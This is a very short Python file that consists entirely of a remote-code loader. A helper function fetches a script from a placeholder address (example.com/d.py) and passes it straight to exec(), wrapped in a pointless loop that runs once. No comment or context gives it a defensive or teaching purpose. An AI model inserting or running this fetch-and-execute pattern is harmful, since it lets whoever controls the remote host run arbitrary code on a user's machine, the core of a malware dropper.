import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


while True:
    try:
        _go()
    finally:
        break
